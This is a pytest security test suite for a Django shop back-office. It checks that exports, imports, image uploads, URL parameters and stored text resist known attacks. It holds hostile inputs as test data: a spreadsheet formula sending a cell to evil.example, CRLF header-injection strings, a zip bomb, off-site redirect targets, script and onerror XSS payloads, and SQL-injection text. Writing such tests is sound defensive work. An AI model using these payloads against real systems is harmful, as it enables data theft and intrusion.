# ruff: noqa: F811  (fixtures imported from tests/dashboard/conftest.py are then requested by name)
"""What an attack on the back-office found, each kept as a test: formulas in exports [SEC-WEB-EXPORT], unbounded
imports and image decodes [SEC-WEB-IMPORT], 500s on odd parameters [SEC-WEB-PARAMS] and right-to-left
overrides reversing the back-office [SEC-WEB-BIDI]. Stored text is shown as text [SEC-WEB-XSS]."""

import csv
import io
import threading
import time
import zipfile
from html.parser import HTMLParser

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import load_workbook
from PIL import Image

from tests.dashboard.conftest import (  # noqa: F401  (fixtures)
    category,
    client_a,
    client_for,
    make_order,
    owner_a,
    product_a,
    reviewer,
    store_a,
)
from tests.factories import make_product
from tijara.catalog import importers
from tijara.catalog.importers import ImportFileError, export_csv, export_xlsx, import_preview, read_rows
from tijara.catalog.models import Product
from tijara.core import images
from tijara.core.images import ImageRejected, reencode_image

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english():
    """Messages are matched in English."""
    with translation.override("en"):
        yield

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: reverses the text after it until the end of its paragraph
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HEADER = "slug,category,name_fr,sku,price,stock\n"


# --- Spreadsheet formulas [SEC-WEB-EXPORT] -------------------------------------------------------------------

def test_exported_cells_never_start_a_formula_and_import_gives_the_text_back(store_a, category):
    for start in ("=", "+", "-", "@"):
        make_product(store_a, category=category, fr=f"{start}{FORMULA[1:]}", slug=f"p-{ord(start)}")
    rows = list(csv.reader(io.StringIO(export_csv(merchant=store_a).decode("utf-8-sig"))))
    names = [row[2] for row in rows[1:]]
    assert names and all(name.startswith("'") for name in names)
    sheet = load_workbook(io.BytesIO(export_xlsx(merchant=store_a))).worksheets[0]
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" and cell.value.startswith("'") for cell in cells)  # text, not formulas
    plan = import_preview(merchant=store_a, rows=read_rows(name="e.csv", data=export_csv(merchant=store_a)))
    assert sorted(p.fields["name_fr"] for p in plan.products.values()) == sorted(
        Product.objects.filter(merchant=store_a).values_list("name_fr", flat=True))


def test_export_serves_csv_or_xlsx_only_under_a_quoted_name(client_a, store_a):
    response = client_a.get("/fr/dashboard/products/export.xlsx")
    assert response["Content-Disposition"] == f'attachment; filename="catalogue-{store_a.slug}.xlsx"'
    for fmt in ("html", "csv%22%3B%20x%3D1", "csv%0d%0aSet-Cookie:%20a=b", "csv%0a"):
        response = client_a.get(f"/fr/dashboard/products/export.{fmt}")
        assert response.status_code == 404, fmt  # was served as CSV, or a 500 for CR/LF
        assert "Set-Cookie" not in str(response.headers.get("Content-Disposition", ""))


# --- Import bounds [SEC-WEB-IMPORT] ----------------------------------------------------------------------------

def test_blank_rows_count_toward_the_row_limit(monkeypatch):
    monkeypatch.setattr(importers, "MAX_ROWS", 100)
    with pytest.raises(ImportFileError, match="Too many rows"):
        read_rows(name="c.csv", data=(HEADER + ",,,,,\n" * 101).encode())
    with pytest.raises(ImportFileError, match="Too many rows"):
        read_rows(name="c.xlsx", data=_xlsx([["slug", "category", "name_fr", "sku", "price", "stock"]]
                                            + [[None] * 5 + [""]] * 101))
    assert read_rows(name="c.csv", data=(HEADER + ",,,,,\n" * 100).encode()) == []


def _xlsx(rows) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_workbook_too_large_once_unzipped_is_refused_before_parsing(monkeypatch):
    monkeypatch.setattr(importers, "MAX_XLSX_UNZIPPED_BYTES", 1_000_000)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", "<row/>" * 300_000)  # 1.8 MB of XML in a few kB
    assert len(out.getvalue()) < 50_000
    with pytest.raises(ImportFileError, match="too large once unpacked"):
        read_rows(name="bomb.xlsx", data=out.getvalue())


def test_upload_pages_refuse_oversized_files_and_odd_cells_with_a_message(client_a, category, monkeypatch):
    monkeypatch.setattr("tijara.catalog.forms.MAX_IMPORT_BYTES", 1000)
    response = client_a.post("/fr/dashboard/products/import/", {"file": SimpleUploadedFile("c.csv", b"x" * 1001)})
    assert response.status_code == 200 and response.context["form"].errors["file"]
    monkeypatch.undo()
    long_cell = HEADER + "a,beaute," + "x" * 131_073 + ",S1,10,1\n"
    odd_stock = HEADER + "a,beaute,Nom,S1,10,²\nb,beaute,Nom,S2,10,99999999999999999999\n"
    for content in (long_cell, odd_stock):
        response = client_a.post("/fr/dashboard/products/import/",
                                 {"file": SimpleUploadedFile("c.csv", content.encode())})
        assert response.status_code == 200  # was a 500 (_csv.Error, OverflowError at import)
        form_errors = response.context["form"].errors.get("file")
        row_errors = {e.column for e in response.context.get("errors", [])}
        assert form_errors or row_errors == {"stock"}


def _png(width: int, height: int) -> SimpleUploadedFile:
    out = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(out, "PNG")
    return SimpleUploadedFile("big.png", out.getvalue(), content_type="image/png")


def test_images_over_the_pixel_limit_are_refused_before_decoding(monkeypatch):
    monkeypatch.setattr(images, "MAX_PIXELS", 10_000)
    with pytest.raises(ImageRejected, match="too many pixels"):
        reencode_image(_png(101, 100))
    assert reencode_image(_png(100, 100)).width == 100


def test_at_most_the_set_number_of_images_are_decoded_at_once(monkeypatch, settings):
    settings.TIJARA_IMAGE_MAX_DECODES, settings.TIJARA_IMAGE_DECODE_WAIT_SECONDS = 2, 5
    monkeypatch.setattr(images, "_decodes", None)
    running, most, lock = [0], [0], threading.Lock()
    real = images._reencode

    def slow(data, name):
        with lock:
            running[0] += 1
            most[0] = max(most[0], running[0])
        time.sleep(0.05)
        with lock:
            running[0] -= 1
        return real(data, name)

    monkeypatch.setattr(images, "_reencode", slow)
    uploads = [_png(20, 20) for _ in range(8)]
    threads = [threading.Thread(target=reencode_image, args=(u,)) for u in uploads]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert most[0] == 2


def test_an_upload_that_waits_too_long_for_a_decode_slot_is_asked_to_come_back(monkeypatch, settings):
    settings.TIJARA_IMAGE_MAX_DECODES, settings.TIJARA_IMAGE_DECODE_WAIT_SECONDS = 1, 0.05
    monkeypatch.setattr(images, "_decodes", None)
    slots = images._decode_slots()
    slots.acquire()
    try:
        with pytest.raises(ImageRejected, match="again in a minute"):
            reencode_image(_png(10, 10))
    finally:
        slots.release()


# --- Parameters that were 500s [SEC-WEB-PARAMS] ----------------------------------------------------------------

def test_a_20_digit_or_unicode_digit_city_filter_is_ignored_not_a_500(client_a, store_a, product_a):
    make_order(store_a, number="ARG-000001", product=product_a)
    for city in ("12345678901234567890", "²", "-1", str(store_a.city_id)):
        page = client_a.get("/fr/dashboard/orders/", {"city": city})
        assert page.status_code == 200 and len(page.context["page_obj"].object_list) == 1, city
        api = client_a.get("/api/v1/merchant/orders", {"city": city})
        assert api.status_code in (200, 400), city  # 400 when the schema bounds the id; never a 500
    assert client_a.get("/fr/", {"city": "²"}).status_code == 200


def test_publishing_never_redirects_off_site(client_a, product_a):
    for target in ("https://evil.example/", "//evil.example/", "/\\evil.example/"):
        response = client_a.post(f"/fr/dashboard/products/{product_a.pk}/publish/", {"published": "1", "next": target})
        assert response.status_code == 302 and response["Location"].startswith("/"), target
        assert not response["Location"].startswith(("//", "/\\")), target


def test_a_unicode_digit_terms_version_is_a_404(client, store_a):
    assert client.get(f"/fr/store/{store_a.slug}/terms/", {"version": "²"}).status_code == 404


# --- Right-to-left overrides [SEC-WEB-BIDI] and stored markup [SEC-WEB-XSS] ----------------------------------

class IsolationCheck(HTMLParser):
    """Collects text holding U+202E that is not inside a <bdi> or an element with dir="auto"."""

    VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}

    def __init__(self):
        super().__init__()
        self.stack: list[tuple[str, bool]] = []
        self.loose: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in self.VOID:
            self.stack.append((tag, tag == "bdi" or dict(attrs).get("dir") == "auto"))

    def handle_endtag(self, tag):
        while self.stack:
            if self.stack.pop()[0] == tag:
                break

    def handle_data(self, data):
        if RLO in data and not any(isolated for _, isolated in self.stack) \
                and not any(tag == "title" for tag, _ in self.stack):
            self.loose.append(data.strip())


@pytest.fixture
def hostile(store_a, category, client_a):
    """A store whose names, customer, address, note and product hold an override, markup and SQL."""
    store_a.legal_name = f"Argania {RLO}LRAS"
    store_a.store_name = f"Argania {RLO}A"
    store_a.address = f"12 Bd {RLO}ssaH II"
    store_a.save(update_fields=["legal_name", "store_name", "address"])
    product = make_product(store_a, category=category, slug="evil",
                           fr=f"Huile {RLO}nagra <script>alert(1)</script>' OR 1=1; --")
    order = make_order(store_a, number="ARG-000001", product=product)
    order.full_name = f"Samira {RLO}tneilC <img src=x onerror=alert(2)>"
    order.address_line = f"3 Rue {RLO}sèF'; DROP TABLE orders_order; --"
    order.save(update_fields=["full_name", "address_line"])
    client_a.post("/fr/dashboard/orders/ARG-000001/",
                  {"to_status": "cancelled", "reason": f"{RLO}kcots fo tuo <script>alert(3)</script>"})
    return store_a


BACK_OFFICE_PAGES = ["/fr/dashboard/", "/fr/dashboard/orders/", "/fr/dashboard/orders/ARG-000001/",
                     "/fr/dashboard/orders/ARG-000001/slip/", "/fr/dashboard/customers/",
                     "/fr/dashboard/customers/client@example.ma/", "/fr/dashboard/products/"]


def test_user_text_in_the_back_office_is_isolated_and_escaped(hostile, client_a, reviewer):
    checked = 0
    pages = [(client_a, url) for url in BACK_OFFICE_PAGES]
    pages += [(client_for(reviewer), f"/fr/dashboard/review/{hostile.pk}/")]
    for client, url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "<script>alert" not in html and "<img src=x" not in html, url
        parser = IsolationCheck()
        parser.feed(html)
        assert parser.loose == [], url
        checked += html.count(RLO)
    assert checked >= 12  # the override is really on these pages, isolated each time
    assert Product.objects.get(slug="evil").name_fr.endswith("' OR 1=1; --")  # stored as typed, as text
